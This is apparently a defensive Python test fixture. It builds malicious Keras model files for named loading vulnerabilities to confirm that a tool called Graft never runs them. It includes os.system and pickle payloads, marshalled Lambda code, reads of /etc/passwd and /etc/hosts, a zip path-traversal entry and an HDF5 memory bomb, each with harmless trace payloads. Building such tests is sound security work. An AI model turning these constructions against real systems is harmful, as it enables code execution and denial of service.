"""Files for the known vulnerabilities of Keras in loading, each with a payload that leaves a trace.

A payload that ran would write `TRACE`, or read `SECRET_FILE` into a tensor. Keras had these
vulnerabilities where it rebuilds a model from a file's configuration, which Graft never does.
"""

import base64
import io
import json
import marshal
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any, NamedTuple

import h5py
import keras
from keras.src.legacy.saving import legacy_h5_format

# Beside the folders of the corpus, so that the hunt for escapes sees it.
TRACE = "escaped.txt"


class Trap(NamedTuple):
    """A file to mutate. The suffix says who reads it."""

    name: str
    suffix: str
    content: bytes


def make_traps(network: keras.Model, folder: Path) -> Iterator[Trap]:
    """A file for each vulnerability, made below `folder`. Its payloads write beside that folder."""
    trace = folder.parent / TRACE
    weights = folder / "trap.weights.h5"
    network.save_weights(weights)
    for name, layer in _make_layers(trace).items():
        config = {"module": "keras", "class_name": "Sequential", "config": {"layers": [layer]}}
        yield Trap(name, ".keras", _make_archive(config, weights.read_bytes()))
    config = {"class_name": "Sequential", "config": {"layers": [_make_lambda(trace)]}}
    yield Trap("CVE-2025-9905", ".h5", _make_older_file(folder, network, config))
    yield Trap("CVE-2026-0897", ".weights.h5", _make_shape_bomb(weights))
    bomb = _make_archive(config, _make_shape_bomb(weights))
    yield Trap("CVE-2026-0897 in an archive", ".keras", bomb)


def _make_layers(trace: Path) -> dict[str, dict[str, Any]]:
    """The configuration of a layer by the number of the vulnerability."""
    return {
        "CVE-2024-3660": _make_lambda(trace),
        "CVE-2025-1550": _call_function("os", "system", [f"touch {trace}"]),
        "CVE-2025-8747": _call_function(
            "keras.utils", "get_file", [str(trace), "file:///etc/hosts"]
        ),
        "CVE-2025-9906": _call_function("keras.config", "enable_unsafe_deserialization", []),
        "CVE-2025-49655": {
            "module": "keras.src.utils.torch_utils",
            "class_name": "TorchModuleWrapper",
            "config": {"module": base64.b64encode(_pickle_call(trace)).decode()},
        },
        "CVE-2025-12058": {
            "module": "keras.layers",
            "class_name": "StringLookup",
            "config": {"vocabulary": "/etc/passwd"},
        },
        "CVE-2026-1462": {
            "module": "keras.layers",
            "class_name": "TFSMLayer",
            "config": {"filepath": str(trace.parent), "call_endpoint": "serve"},
        },
    }


def _make_lambda(trace: Path) -> dict[str, Any]:
    code = compile(f"open({str(trace)!r}, 'w').close()", "payload", "exec")
    encoded = base64.b64encode(marshal.dumps(code)).decode()
    function = {"class_name": "__lambda__", "config": {"code": encoded}}
    return {"module": "keras.layers", "class_name": "Lambda", "config": {"function": function}}


def _call_function(module: str, name: str, arguments: list[str]) -> dict[str, Any]:
    """A layer that is a function of another module, with the arguments of its call."""
    return {
        "module": module,
        "class_name": "function",
        "config": name,
        "registered_name": name,
        "inbound_nodes": [{"args": arguments, "kwargs": {}}],
    }


def _pickle_call(trace: Path) -> bytes:
    # `os.system("touch …")` in pickle's own language.
    return b"cos\nsystem\n(S'touch " + str(trace).encode() + b"'\ntR."


def _make_archive(config: dict[str, Any], weights: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("metadata.json", json.dumps({"keras_version": keras.__version__}))
        archive.writestr("model.weights.h5", weights)
        # Keras unpacks assets and lets layers read them.
        archive.writestr(f"assets/../../../{TRACE}", b"escaped")
    return buffer.getvalue()


def _make_older_file(folder: Path, network: keras.Model, config: dict[str, Any]) -> bytes:
    path = folder / "trap.h5"
    with h5py.File(path, "w") as file:
        legacy_h5_format.save_weights_to_hdf5_group(file, network)
        for name in ("model_config", "training_config"):
            file.attrs[name] = json.dumps(config)
    return path.read_bytes()


def _make_shape_bomb(weights: Path) -> bytes:
    """Weights of which one tensor claims a million gigabytes, and holds nothing."""
    path = weights.with_name("bomb.weights.h5")
    path.write_bytes(weights.read_bytes())
    with h5py.File(path, "a") as file:
        [name] = [each for each in file["layers"] if each.startswith("conv2d")][:1]
        variables = file[f"layers/{name}/vars"]
        del variables["0"]
        variables.create_dataset("0", (1 << 20, 1 << 20, 256), "f4", chunks=(64, 64, 64))
    return path.read_bytes()
